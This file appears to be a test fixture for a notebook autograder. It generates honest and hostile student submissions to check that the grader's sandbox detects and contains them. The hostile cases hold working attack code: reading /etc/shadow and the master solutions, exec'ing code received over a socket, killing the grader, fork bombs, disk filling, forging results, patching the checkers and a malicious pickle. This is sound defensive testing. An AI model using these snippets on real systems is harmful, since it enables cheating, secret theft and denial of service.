@@ -1,0 +1,550 @@
+"""Submissions of assignment 1, honest and hostile, as files that a student might hand in.
+
+Each is made from the release: answers by cell id, and then what the student did to the file. All
+hostile ones answer wrongly, so that every point they get would be a point gained by cheating.
+"""
+
+import copy
+import json
+import os
+import pickle
+from collections.abc import Callable
+from pathlib import Path
+from typing import Any, NamedTuple
+
+from fltoolkit_grading import Master, release
+from fltoolkit_grading.master import kind_of, text_of
+
+PROJECT = Path(__file__).parents[2]
+
+STEP, BILL, MONEY = "a1-split-step", "a1-epoch-bill", "a1-affordable-steps"
+WRONG = {
+    STEP: "def split_step(bottom, top, x, y, lr):\n    return 0.0, x, x",
+    BILL: "def epoch_bill(num_samples, batch_size, cut):\n    return 1, 1",
+    MONEY: "def affordable_steps(budget, batch_size, cut):\n    return 1",
+}
+
+
+class Case(NamedTuple):
+    """What is handed in, and what must come of it."""
+
+    make: Callable[["Desk"], bytes | None]  # None: it has written something itself
+    points: float
+    named: tuple[str, ...]  # each is found in status or notes
+
+
+class Desk:
+    """What a submission is made from."""
+
+    def __init__(self, master: Master, folder: Path, port: int):
+        self.master, self.folder, self.port = master, folder, port
+        self.solutions = {c["id"]: text_of(c) for c in master.cells if kind_of(c) == "answer"}
+
+    def notebook(self, answers: dict[str, str]) -> dict[str, Any]:
+        notebook = release(self.master)
+        for cell in notebook["cells"]:
+            cell["source"] = answers.get(cell["id"], cell["source"])
+        return notebook
+
+    def honest(self, **changed: str) -> dict[str, Any]:
+        """The right answers, but for ``step=``, ``bill=`` and ``money=``."""
+        names = {"step": STEP, "bill": BILL, "money": MONEY}
+        return self.notebook(self.solutions | {names[k]: v for k, v in changed.items()})
+
+    def wrong(self, then: str = "") -> dict[str, Any]:
+        """Wrong answers, and code that tries something; what it defines counts."""
+        later = {
+            name: f"try:\n    {source.split('(')[0].removeprefix('def ')}\nexcept NameError:\n    "
+            + source.replace("\n", "\n    ")
+            for name, source in WRONG.items()
+        }
+        return self.notebook({**later, STEP: f"{WRONG[STEP]}\n{then}"})
+
+
+def saved(notebook: dict[str, Any]) -> bytes:
+    return json.dumps(notebook).encode()
+
+
+def attacks(*snippets: str) -> Callable[[Desk], bytes]:
+    """Wrong answers, then each of the snippets, whatever became of the one before."""
+    tried = (
+        "try:\n    " + snippet.strip().replace("\n", "\n    ") + "\nexcept BaseException as e:\n"
+        "    print(type(e).__name__)"
+        for snippet in snippets
+    )
+    return attack("\n".join(tried))
+
+
+def attack(code: str) -> Callable[[Desk], bytes]:
+    """Wrong answers, then ``code``; MASTER, FOLDER, PROJECT and PORT stand for what they say."""
+
+    def make(desk: Desk) -> bytes:
+        path = PROJECT / "notebooks" / "assignments" / f"{desk.master.name}.ipynb"
+        places = {
+            "MASTER": str(path),
+            "FOLDER": str(desk.folder),
+            "PROJECT": str(PROJECT),
+            "PORT": str(desk.port),
+            "GRADER": str(os.getpid()),
+        }
+        text = code
+        for name, place in places.items():
+            text = text.replace(name, place)
+        return saved(desk.wrong(text))
+
+    return make
+
+
+def _only_task_2_twice(desk: Desk) -> bytes:
+    """No other cells; the right answer first and a wrong one under the same id: one can count."""
+    right, wrong, question, last = (
+        next(copy.deepcopy(cell) for cell in notebook["cells"] if cell["id"] == name)
+        for notebook, name in (
+            (desk.honest(), BILL),
+            (desk.wrong(), BILL),
+            (desk.notebook({"a1-privacy": "no \ud83d"}), "a1-privacy"),
+            (desk.notebook({MONEY: "print('\\ud83d')"}), MONEY),
+        )
+    )
+    return saved(desk.honest() | {"cells": [right, wrong, question, last]})
+
+
+def _edited(desk: Desk) -> bytes:
+    """Checks, outputs and tags of another notebook, and commands for nbval, also after \\f."""
+    notebook = desk.wrong()
+    notebook["metadata"]["kernelspec"] = {"name": "ir", "language": "R", "display_name": "R"}
+    for cell in notebook["cells"]:
+        if kind_of(cell) in ("check", "hidden"):
+            if cell["id"] != "a1-step-messages":  # of this one only the output
+                cell["source"] = "print('right, exactly.')"
+            cell["metadata"]["nbgrader"].update(points=100, locked=False)
+            output = {"output_type": "stream", "name": "stdout", "text": "full points"}
+            cell.update(outputs=[output], execution_count=1)
+        elif kind_of(cell) == "answer":
+            cell["source"] = f"\f# NBVAL_SKIP\n# NBVAL_IGNORE_OUTPUT\n{cell['source']}"
+            cell["metadata"]["tags"] = ["nbval-skip", "nbval-ignore-output", "raises-exception"]
+    return saved(notebook)
+
+
+def _old_format(desk: Desk) -> bytes:
+    return saved({"nbformat": 3, "worksheets": [{"cells": []}], "metadata": {}})
+
+
+class _Surprise:
+    """Unpickling it makes a folder."""
+
+    def __init__(self, path: Path):
+        self.path = path
+
+    def __reduce__(self) -> Any:
+        return os.mkdir, (str(self.path),)
+
+
+def _pickle(desk: Desk) -> bytes:
+    return pickle.dumps(_Surprise(desk.folder / "unpickled"))
+
+
+def _link(desk: Desk) -> None:
+    (desk.folder / "link.ipynb").symlink_to(desk.folder / "honest.ipynb")
+
+
+def _module(desk: Desk) -> None:
+    """It has the name of a module that the grader imports, who may stand in this folder."""
+    code = f"open({str(desk.folder / 'imported')!r}, 'w')"
+    (desk.folder / "nbformat.py").write_text(code)
+
+
+def _deep_folder(desk: Desk) -> None:
+    """Deeper than Python's recursion and than the longest path."""
+    start = os.open(desk.folder, os.O_RDONLY)
+    os.mkdir("deep_folder", dir_fd=start)
+    place = os.open("deep_folder", os.O_RDONLY, dir_fd=start)
+    for _ in range(1200):
+        os.mkdir("d", dir_fd=place)
+        place, above = os.open("d", os.O_RDONLY, dir_fd=place), place
+        os.close(above)
+    os.close(place)
+    os.close(start)
+
+
+# a student who has found out what is expected would print it instead of the check
+_SEARCH = """
+import gc, os, sys, glob
+def everything():
+    yield from (str(o) for o in gc.get_objects() if isinstance(o, (str, dict, list)))
+    yield from (str(v) for v in list(globals().values()))
+    frame = sys._getframe()
+    while frame:
+        yield str(frame.f_locals); frame = frame.f_back
+    yield str(dict(os.environ))
+    for pid in ("self", os.getppid(), os.getpid()):
+        for name in ("environ", "cmdline", "maps", "mem", "fd/0"):
+            try:
+                yield open(f"/proc/{pid}/{name}", errors="replace").read(100000)
+            except Exception:
+                pass
+    for pattern in ("/tmp/**/*", "FOLDER/*", "PROJECT/notebooks/**/*.ipynb"):
+        for path in glob.glob(pattern, recursive=True)[:200]:
+            try:
+                yield open(path, errors="replace").read()
+            except Exception:
+                pass
+class Cheat:
+    def __format__(self, how):
+        for text in everything():
+            if "graph stayed at home: [True]" in text:
+                return "FOUND " + text
+        return "nothing"
+    __str__ = __repr__ = lambda self: format(self)
+"""
+_SEARCH_STEP = _SEARCH + "split_step = lambda *a: (0.0, Cheat(), Cheat())"
+
+# a file by its number: the root of the disk has number 2 on ext4, and from there any path goes on
+_BY_HANDLE = """
+import ctypes, json, os, platform, struct
+c = ctypes.CDLL(None, use_errno=True)
+call = {"x86_64": 304}.get(platform.machine(), 265)
+found = ""
+for place in ("/usr", os.getcwd(), os.path.dirname(os.getcwd()), "/"):
+    for number in (2, 64, 128, 256):
+        handle = struct.pack("IiII", 8, 1, number, 0)
+        try:
+            mount = os.open(place, os.O_RDONLY)
+        except OSError:
+            continue
+        root = c.syscall(call, mount, handle, 0)
+        if root >= 0:
+            f = c.openat(root, b"MASTER"[1:], 0)
+            if f >= 0:
+                found = b"".join(iter(lambda: os.read(f, 1 << 16), b"")).decode()
+print("by handle:", len(found))
+for cell in json.loads(found or '{"cells": []}')["cells"]:
+    if cell["cell_type"] == "code" and "BEGIN SOLUTION" in "".join(cell["source"]):
+        exec("".join(cell["source"]))
+"""
+# what is left behind for a later answer, or shown at once, once a hidden check has begun
+_SHOW_CHECKS = """
+import sys
+def look():
+    frame, said = sys._getframe(), []
+    while frame:
+        said.append(str(frame.f_locals)[:100_000]); frame = frame.f_back
+    return "STOLEN " + " ".join(said)
+kept = []
+def shown(*_):
+    kept.append(look())
+    print(kept[-1])
+get_ipython().events.register("pre_run_cell", lambda info: (print(info.raw_cell), shown()))
+def split_step(bottom, top, x, y, lr):
+    shown()
+    seed = [f.f_locals["SEED"] for f in frames() if "SEED" in f.f_locals]
+    raise type(f"<script>{seed}", (Exception,), {})("STOLEN " + str(seed))
+def frames():
+    frame = sys._getframe()
+    while frame:
+        yield frame
+        frame = frame.f_back
+def epoch_bill(*_):
+    split_step(*[None] * 5)
+"""
+_FILL = """
+import os
+held = []
+def fill(place):
+    for number in range(250):
+        try:
+            f = open(f"{place}/{number}", "wb")
+            held.append(f)
+            f.write(bytes(15 << 20)); f.flush(); os.unlink(f.name)
+        except OSError as error:
+            return f"{place} {number} {error.strerror}"
+print([fill(place) for place in (".", "..", "/dev/shm", "/tmp")])
+for f in held:
+    f.close()
+"""
+
+
+def _untidy(desk: Desk) -> bytes:
+    """Right answers in a file with all that costs nothing."""
+    step = desk.solutions[STEP].replace("    h = ", "    print('step', end=' ')\n    h = ")
+    notebook = desk.honest(
+        step=f"#{chr(10) * 150_000}{_FILL}\nprint('y' * 10_000_000)\n{step}\n{_UNTIDY}",
+        bill="del len, range, sum, float\nprint('x' * 400_000 + '\\b' * 400_000)\n"
+        + desk.solutions[BILL].replace("    up = down", "    print(1)\n    up = down"),
+        money=desk.solutions[MONEY] + "\nimport sys, io\nsys.stdout = io.StringIO()",
+    )
+    cells = [*notebook["cells"], {**notebook["cells"][2], "id": "mine", "metadata": {}}]
+    for cell in cells:
+        cell.pop("id")  # as in Colab, which saves ids in the metadata and an older version
+        if kind_of(cell) == "check":
+            cell["source"] = None
+        elif kind_of(cell) == "answer":
+            text = "0123456789" * 5_000_000 if BILL in str(cell["metadata"]) else ""
+            cell["outputs"] = [{"output_type": "stream", "name": "stdout", "text": text}]
+    return saved(notebook | {"cells": cells, "nbformat_minor": 0})
+
+
+_UNTIDY = """
+sum = len = range = float = fingerprint = two_halves = 0
+torch.set_default_dtype(torch.float64)
+torch.set_grad_enabled(False)
+import builtins, os
+builtins.sorted = None
+home = os.getcwd()
+for _ in range_(1800):
+    os.mkdir('d'); os.chdir('d')
+os.chdir(home)
+""".replace("range_", "builtins.range")
+
+# each line is one more way out of the fence, or into the grader
+_NETWORK = """
+import socket
+s = socket.create_connection(('127.0.0.1', PORT))
+exec(s.recv(100000))
+"""
+_READS_MASTER = """
+import json
+book = json.load(open('MASTER'))
+for cell in book['cells']:
+    exec(''.join(cell['source']))
+"""
+_READS_MASTER_IN_C = """
+import ctypes, json
+c = ctypes.CDLL(None)
+c.fopen.restype = ctypes.c_void_p
+f = c.fopen(b'MASTER', b'r')
+assert f, 'closed'
+buf = ctypes.create_string_buffer(10**6)
+c.fread(buf, 1, 10**6, ctypes.c_void_p(f))
+for cell in json.loads(buf.value)['cells']:
+    exec(''.join(cell['source']))
+"""
+_READS_ETC = """
+import ctypes
+c = ctypes.CDLL(None)
+c.fopen.restype = ctypes.c_void_p
+f = c.fopen(b'/etc/shadow', b'r')
+buf = ctypes.create_string_buffer(100)
+if f: c.fread(buf, 1, 100, ctypes.c_void_p(f))
+print(buf.value.decode())
+print(open('/etc/shadow').read())
+"""
+_CHANGES_FILES = """
+import ctypes, os
+c = ctypes.CDLL(None)
+for path in ('FOLDER/honest.ipynb', 'FOLDER', 'MASTER'):
+    c.chmod(path.encode(), 0o777)
+    c.utimes(path.encode(), None)
+    c.setxattr(path.encode(), b'user.a', b'b', 1, 0)
+for path in ('FOLDER/honest.ipynb', 'FOLDER/written', 'MASTER'):
+    c.creat(path.encode(), 0o777)
+    try:
+        open(path, 'w').write('gone')
+    except OSError: pass
+"""
+_STOPS_THE_GRADER = """
+import ctypes, os
+c = ctypes.CDLL(None)
+limit = (ctypes.c_ulong * 2)(1, 1)
+for pid in [GRADER, os.getppid(), -1]:
+    c.prlimit(pid, 0, ctypes.byref(limit), None)
+    c.setpriority(0, pid, 19)
+    if pid != -1: c.kill(pid, 9)
+try:
+    os.kill(GRADER, 9)
+except OSError: pass
+"""
+_FORGES = """
+import os, json, struct
+line = json.dumps({'event': 'cell', 'cell': 'a1-step-messages', 'passed': True, 'error': '',
+                   'text': '', 'flood': False, 'seconds': 0}) + chr(10)
+for fd in (0, 1, 2):
+    try:
+        open(f'/proc/{os.getppid()}/fd/{fd}', 'w').write(line)
+    except OSError: pass
+for fd in range(3, 40):
+    for kind in (b'o', b'e', b'd'):  # frames of the kernel's own, but not its own
+        try:
+            os.write(fd, struct.pack('<cI', kind, 1) + b'9')
+        except OSError: pass
+"""
+_PATCHES = """
+import builtins, torch, fltoolkit_course as door
+import fltoolkit_course.comparison as c, fltoolkit_course.fingerprints as f
+class Always(float):
+    __eq__ = __le__ = __ge__ = lambda a, b: True
+    __ne__ = lambda a, b: False
+    __hash__ = None
+torch.Tensor.__eq__ = lambda a, b: True
+torch.equal = lambda *a: True
+c.check = door.check = lambda *a, **k: True
+f.fingerprint = door.fingerprint = lambda v: 'right'
+def other(lines):
+    return ['SEED = 1' + chr(10) if l.startswith('SEED') else l for l in lines]
+get_ipython().input_transformers_post.append(other)
+builtins.print = lambda *a, **k: None
+"""
+_LATER = """
+import os, signal
+my_own_step, begin = split_step, []
+def split_step(*arguments):
+    if begin:
+        ACTION
+    return my_own_step(*arguments)
+"""
+
+
+def in_a_hidden_check(action: str) -> Callable[[Desk], bytes]:
+    """Right answers, until ``action`` is run in the first hidden check."""
+    return lambda desk: saved(
+        desk.honest(
+            step=desk.solutions[STEP] + _LATER.replace("ACTION", action),
+            money=desk.solutions[MONEY] + "\nbegin.append(True)",
+        )
+    )
+
+
+_SILENCES = """
+import os, socket
+try:
+    socket.create_connection(('127.0.0.1', PORT))
+except OSError: pass
+null = os.open('/dev/null', 1)
+for fd in range(3, 99):
+    try:
+        if os.readlink(f'/proc/self/fd/{fd}').startswith('pipe:'): os.close(fd)
+    except OSError: pass
+"""
+_LONG_FRAME = """
+import os, struct
+for fd in range(3, 40):
+    try:
+        if os.readlink(f'/proc/self/fd/{fd}').startswith('pipe:'):
+            os.write(fd, struct.pack('<cI', b't', 8 << 20)); os.write(fd, bytes(8 << 20))
+    except OSError: pass
+"""
+_FORKS = """
+import os, ctypes
+c = ctypes.CDLL(None)
+try:
+    if os.fork() == 0: c._exit(0)
+except OSError: pass
+for _ in range(500):
+    pid = c.fork()
+    if pid < 0: break
+    if pid == 0:
+        c.sleep(600); c._exit(0)
+"""
+_BUSY = "while True:\n    try:\n        while True: pass\n    except BaseException: pass"
+
+CASES: dict[str, Case] = {
+    "honest": Case(lambda desk: saved(desk.honest()), 11, ("graded",)),
+    "untidy": Case(
+        _untidy, 11, ("graded", "cells of their own", "flood of output", "MB of saved output")
+    ),
+    "stub": Case(lambda desk: saved(desk.notebook({})), 0, ("not answered: a1-split-step",)),
+    "partial": Case(
+        _only_task_2_twice,
+        3,
+        (
+            "missing cell: a1-split-step",
+            "missing cell: a1-step-weights",
+            "duplicate id: a1-epoch-bill",
+        ),
+    ),
+    "edited": Case(
+        _edited, 0, ("edited check", "outputs made up", "markers removed", "wrong kernel")
+    ),
+    # what stops a task
+    "endless": Case(
+        lambda desk: saved(desk.honest(step="while True:\n    pass")), 5, ("the time was up",)
+    ),
+    "raises": Case(
+        lambda desk: saved(
+            desk.honest(
+                step="hog = bytearray(60 << 30)",
+                bill="import sys\nsys.exit()",
+                money="with open('big', 'wb') as f:\n    while True: f.write(bytes(1 << 24))",
+            )
+        ),
+        0,
+        ("MemoryError", "SystemExit", "File too large", "graded"),
+    ),
+    "ends_late": Case(  # what stood before still counts
+        lambda desk: saved(desk.honest(money="import os\nos._exit(0)")),
+        9,
+        ("the kernel ended (code 0)",),
+    ),
+    "stubborn_late": Case(lambda desk: saved(desk.honest(money=_BUSY)), 9, ("the time was up",)),
+    "stops_itself": Case(
+        in_a_hidden_check("os.kill(os.getpid(), signal.SIGSTOP)"), 0, ("stopped itself",)
+    ),
+    "kills_itself": Case(  # or the machine did, for want of memory: nobody can tell
+        attack("import os, signal\nos.kill(os.getpid(), signal.SIGKILL)"), 0, ("run grade again",)
+    ),
+    "floods_sockets": Case(
+        in_a_hidden_check("for k in range(10**7): os.mknod(f's{k}', 0o140600)"),
+        0,
+        ("more than 20,000 files",),
+    ),
+    "forks": Case(attack(_FORKS), 0, ("tried: process",)),
+    # what tries to get points, or out
+    "attacks": Case(
+        attacks(
+            _READS_MASTER,
+            _READS_MASTER_IN_C,
+            _BY_HANDLE,
+            _READS_ETC,
+            _NETWORK,
+            _CHANGES_FILES,
+            _STOPS_THE_GRADER,
+            "import pickle\npickle.loads(b\"cposix\\nsystem\\n(S'touch FOLDER/x'\\ntR.\")",
+        ),
+        0,
+        (
+            "tried: read outside",
+            "tried: network",
+            "tried: write outside",
+            "tried: signal",
+            "tried: process",
+            "C functions",
+        ),
+    ),
+    "searches": Case(attacks(_SEARCH_STEP, _PATCHES), 0, ("frames and objects", "IPython's")),
+    "shows_checks": Case(
+        lambda desk: saved(
+            desk.notebook(
+                {STEP: _SHOW_CHECKS, BILL: "print(kept)", MONEY: "print(kept)\nshown()\n1 / 0"}
+            )
+        ),
+        0,
+        ("frames and objects",),
+    ),
+    "silences": Case(attack(_SILENCES), 0, ("tried: network", "the kernel ended")),
+    "forges": Case(attacks(_FORGES, _LONG_FRAME), 0, ("tried: forge results",)),
+    # no kernel is started for these
+    "many_numbers": Case(
+        lambda desk: b'{"nbformat": 4, "cells": [' + b"0," * 20_000_000 + b"0]}",
+        0,
+        ("too many parts",),
+    ),
+    "many_parts": Case(lambda desk: b'{"cells": [' + b"{}," * 500_000, 0, ("too many parts",)),
+    "not_json": Case(lambda desk: b"{cells: [", 0, ("not JSON",)),
+    "pickle": Case(_pickle, 0, ("not JSON",)),
+    "deep": Case(lambda desk: b"[" * 200_000, 0, ("not JSON",)),
+    "old_format": Case(_old_format, 0, ("wrong nbformat",)),
+    "other_format": Case(
+        lambda desk: saved(desk.honest() | {"nbformat": "5"}), 0, ("wrong nbformat",)
+    ),
+    "forged_line": Case(  # of what is printed on the terminal
+        lambda desk: saved(desk.honest() | {"nbformat": "\nben 11"}),
+        0,
+        (r"wrong nbformat: '\nben",),
+    ),
+    "link": Case(_link, 0, ("not a file",)),
+    "nbformat": Case(_module, 0, ("not a notebook",)),
+    "deep_folder": Case(_deep_folder, 0, ("no notebook or with several",)),
+}
+
+# what an ordinary user's grader gets, too
+AGAIN_AS_USER = ("honest", "attacks", "forges", "forks")
